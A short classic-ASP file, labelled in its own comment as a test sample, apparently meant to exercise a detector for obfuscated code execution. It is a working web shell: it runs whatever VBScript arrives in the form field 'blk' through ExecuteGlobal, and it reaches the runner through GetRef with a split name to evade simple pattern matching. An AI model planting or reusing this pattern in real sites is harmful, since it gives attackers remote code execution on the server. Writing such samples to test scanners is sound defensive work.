<%
' test sample: the code runner is reached through GetRef with its name put together
Sub RunBlock(src)
    ExecuteGlobal src
End Sub
Set h = GetRef("Run" & "Block")
h Request.Form("blk")
%>
